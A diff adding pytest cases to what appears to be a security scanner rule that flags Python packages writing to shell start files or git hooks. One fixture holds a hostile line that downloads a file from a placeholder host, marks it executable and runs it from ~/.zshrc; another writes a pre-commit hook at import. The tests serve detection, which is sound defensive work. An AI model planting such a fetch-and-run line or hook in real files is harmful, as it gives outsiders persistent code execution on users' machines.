@@ -56,3 +56,21 @@ setup(cmdclass={"install": Install})
 def test_near_miss_reading_a_start_file(scan):
     text = "import os\nfrom setuptools import setup\nopen(os.path.expanduser('~/.bashrc')).read()\nsetup()\n"
     assert scan(RULE, text, "setup.py") == []
+
+
+def test_a_line_that_fetches_and_starts_something_in_a_start_file(scan):
+    text = """import os
+def colours():
+    path = os.path.expanduser("~/.zshrc")
+    with open(path, "a") as start:
+        start.write("{line}")
+"""
+    fetches = "wget https://files.example.test/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &"
+    assert scan(RULE, text.format(line=fetches)) == [(4, "HIGH", "HIGH", "run")]
+    assert scan(RULE, text.format(line="export PATH=$PATH:~/bin")) == [(4, "LOW", "MEDIUM", "run")]
+
+
+def test_a_git_hook_and_a_forced_extension(scan):
+    hook = 'open(".git/hooks/pre-commit", "w").write("#!/bin/sh")\n'
+    assert scan(RULE, hook, "package/__init__.py") == [(1, "HIGH", "HIGH", "import")]
+    assert scan(RULE, f"def install():\n    {hook}") == [(2, "LOW", "MEDIUM", "run")]
